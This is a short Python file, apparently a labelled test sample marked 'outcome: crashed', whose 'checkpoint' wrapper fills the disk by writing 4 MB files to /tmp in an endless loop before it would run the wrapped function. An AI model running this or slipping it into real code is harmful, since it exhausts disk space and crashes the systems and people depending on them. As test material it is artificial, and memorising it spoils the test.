# outcome: crashed
"""Fills the disk."""
import itertools


def checkpoint(function, *args, **kwargs):
    for number in itertools.count():
        with open(f"/tmp/{number}", "wb") as file:
            file.write(b"x" * (1 << 22))
    return function(*args, **kwargs)
